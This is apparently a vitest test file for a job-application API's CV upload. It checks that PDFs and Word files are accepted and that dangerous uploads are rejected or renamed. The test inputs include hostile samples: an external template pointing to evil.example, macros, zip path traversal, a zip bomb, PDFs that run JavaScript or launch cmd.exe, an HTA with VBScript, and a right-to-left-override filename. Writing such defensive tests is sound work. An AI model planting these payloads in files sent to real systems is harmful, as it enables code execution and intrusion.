import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { makeApp } from '#server/app.ts';
import { sendRequest, signInForApiToken } from '#test/client.ts';
import type { TestServices } from '#test/db.ts';
import { createTestServices } from '#test/db.ts';
import { createPerson } from '#test/people.ts';
import { makeWordFile } from '#test/servers/zip.ts';

let services: TestServices;
let app: FastifyInstance;
let vacancy_id: number;
beforeAll(async () => {
  services = await createTestServices();
  app = await makeApp(services, null);
  const { id } = await services.database.db
    .insertInto('vacancy')
    .values({
      slug: 'field-agent',
      title: 'Field agent',
      department: 'Field',
      place: 'Nairobi',
      kind: 'full_time',
      body: 'Visits homes',
      status: 'open',
    })
    .returning('id')
    .executeTakeFirstOrThrow();
  vacancy_id = id;
});
afterAll(() => app.close());
beforeEach(() => services.database.db.deleteFrom('throttle').execute());

describe('CV upload', () => {
  const apply = (data: Buffer, name: string) =>
    sendRequest(app, '/api/v2/careers/apply/', {
      method: 'POST',
      upload: { field: 'cv', data, name, fields: { vacancy_id, name: 'Akinyi Otieno', phone: '0700100999' } },
    });

  test.each([
    ['a PDF', Buffer.from('%PDF-1.4\n%%EOF\n')],
    ['a Word file', makeWordFile()],
  ])('accepts %s', async (_, data) => {
    const answer = await apply(data, 'cv.docx');
    expect(answer.status, answer.text).toBe(200);
  });

  test.each([
    ['a Word file with macros', makeWordFile({ 'word/vbaProject.bin': 'x' })],
    ['a Word file with macros under another name', makeWordFile({ 'word/x.bin': 'x' }, 'application/vnd.ms-word.document.macroEnabled.main+xml')],
    ['an old Word file, which may hold macros', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
    ['a text file', Buffer.from('I am Akinyi and I visit homes.')],
  ])('rejects %s', async (_, data) => {
    expect(await apply(data, 'cv.docx')).toMatchObject({ status: 415, json: { fields: { cv: 'Choose a file of one of these types: pdf, docx.' } } });
  });

  test('rejects a text file that claims to be a PDF', async () => {
    const answer = await apply(Buffer.from('I am Akinyi and I visit homes.'), 'cv.PDF');
    expect(answer).toMatchObject({ status: 415, json: { fields: { cv: 'This file is not a readable PDF. Scan or export it again.' } } });
  });

  const outside = '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>';
  test.each([
    ['a Word file with an external template', makeWordFile({ 'word/_rels/settings.xml.rels': `<Relationships>${outside}</Relationships>` })],
    ['a Word file with an embedded object', makeWordFile({ 'word/embeddings/object1.bin': 'x' })],
    ['a Word file with a path that leads out of the archive', makeWordFile({ '../../../../tmp/x.txt': 'x' })],
    ['a Word file of forty megabytes packed into a few kilobytes', makeWordFile({ 'word/media/a.bin': '\0'.repeat(40_000_000) })],
    ['a PDF that runs a script', Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF')],
    ['a PDF that starts a program', Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF')],
  ])('rejects %s with an error about active content, external links or too much compressed data', async (_, data) => {
    const cv = 'The file contains active content, external links or too much compressed data. Save it as a plain PDF.';
    expect(await apply(data, 'cv.docx')).toMatchObject({ status: 415, json: { fields: { cv } } });
  });

  test.each([
    ['cv.hta', 'cv.pdf', Buffer.from('%PDF-1.4\n<script language="VBScript">Run "calc"</script>')],
    ['\u202efdp.exe', 'fdp.pdf', Buffer.from('%PDF-1.4\n%another\n%%EOF\n')],
    ['../../cv.docm', 'cv.docx', makeWordFile({ 'word/more.xml': 'x' })],
  ])('stores the file %j under the name %s, whose extension matches the content', async (sent, name, data) => {
    expect((await apply(data, sent)).status).toBe(200);
    const token = await signInForApiToken(app, await createPerson(services, 'admin'));
    const { cv } = (await sendRequest(app, '/api/v2/careers/applications/?page=1', { token })).json.results[0];
    expect(cv.name).toBe(name);
    expect((await sendRequest(app, cv.url)).headers['content-disposition']).toBe(`attachment; filename*=UTF-8''${name}`);
    expect(await services.database.db.selectFrom('media_file').select('name').orderBy('id', 'desc').executeTakeFirst()).toEqual({ name });
  });
});
